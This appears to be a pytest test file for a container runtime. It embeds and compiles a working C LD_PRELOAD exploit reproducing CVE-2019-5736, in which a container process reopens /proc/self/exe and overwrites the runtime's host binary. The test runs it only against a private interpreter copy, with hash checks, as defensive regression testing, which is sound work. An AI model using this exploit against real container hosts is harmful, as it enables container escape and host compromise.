"""Attacks on the host interpreter run only against a private copy of it.

`private_runtime` copies this venv's base interpreter into a temporary
directory and writes a launcher for it (`pyocijail.launcher`, with this
environment's import paths): every runtime call the attack sees runs that
copy, never the system interpreter. The system interpreter's sha256 is
checked before and after each test, and so is the copy's.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys

import pytest

from pyocijail.testing.clients.driver import Runtime, reap_orphans
from tests.helpers import mount_points, sha256

SYSTEM_PYTHON = os.path.realpath(getattr(sys, "_base_executable", sys.executable))

EVIL_C = r"""
/* LD_PRELOAD'ed by the image's ENV: runs in any dynamic program of the container.
   CVE-2019-5736: keep /proc/self/exe, let this process exec away, then reopen the
   file for writing once nothing runs it (ETXTBSY until then). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void note(const char *what) {
    int fd = open("/evidence", O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) { write(fd, what, strlen(what)); write(fd, "\n", 1); close(fd); }
}

__attribute__((constructor)) static void attack(void) {
    char exe[4096] = {0}, line[4200];
    readlink("/proc/self/exe", exe, sizeof exe - 1);
    snprintf(line, sizeof line, "ran exe=%s", exe);
    note(line);
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) { note("open exe failed"); _exit(0); }
    if (fork() > 0) { execl("/bin/sleep", "sleep", "2", (char *)0); _exit(0); }
    /* The copy stays busy while this fork runs it: exec a static shell that keeps
       the fd and retries the write (ETXTBSY while the runtime still runs it). */
    setsid();
    snprintf(line, sizeof line,
             "i=0; while [ $i -lt 150 ]; do "
             "if (echo PWNED >> /proc/self/fd/%d) 2>/dev/null; then echo wrote >> /evidence; "
             "exit; fi; i=$((i+1)); sleep 0.02; done; echo still busy >> /evidence", fd);
    execl("/bin/busybox", "sh", "-c", line, (char *)0);
    note("exec busybox failed");
    _exit(0);
}
"""


class LauncherRuntime(Runtime):
    """The runtime as podman runs it: the launcher, here for a private interpreter."""

    def __init__(self, root: str, launcher: str) -> None:
        super().__init__(root)
        self.launcher = launcher

    def argv(self, *args: str, globals_: tuple[str, ...] = ()) -> list[str]:
        return [self.launcher, "--root", self.root, *globals_, *args]


@pytest.fixture
def private_runtime(workdir):
    """(runtime, the private interpreter's path); both interpreters unchanged after."""
    from pyocijail.launcher import import_paths, write_launcher

    system_before = sha256(SYSTEM_PYTHON)
    private = os.path.join(workdir, "interp", os.path.basename(SYSTEM_PYTHON))
    os.makedirs(os.path.dirname(private))
    shutil.copy2(SYSTEM_PYTHON, private)
    private_before = sha256(private)
    launcher = write_launcher(os.path.join(workdir, "interp", "pyocijail"), python=private,
                              paths=import_paths(sys.executable))
    mounts = mount_points()
    rt = LauncherRuntime(os.path.join(workdir, "state"), launcher)
    rt.private_python = private
    rt.private_sha256 = private_before
    yield rt
    reap_orphans()
    rt.cleanup()
    reap_orphans()
    assert sha256(SYSTEM_PYTHON) == system_before, "the SYSTEM interpreter changed"
    assert not rt.ids(), f"delete --force left state behind: {rt.ids()}"
    assert not {m for m in mount_points() - mounts if m.startswith(workdir)}


def _needs_gcc() -> str:
    gcc = shutil.which("gcc")
    if gcc is None:
        pytest.skip("needs gcc (the attack's LD_PRELOAD library)")
    return gcc


@pytest.fixture(scope="session")
def evil_so(tmp_path_factory):
    gcc = _needs_gcc()
    src = tmp_path_factory.mktemp("evil") / "evil.c"
    src.write_text(EVIL_C)
    out = src.with_suffix(".so")
    subprocess.run([gcc, "-shared", "-fPIC", "-O1", "-o", str(out), str(src)], check=True)
    return str(out)
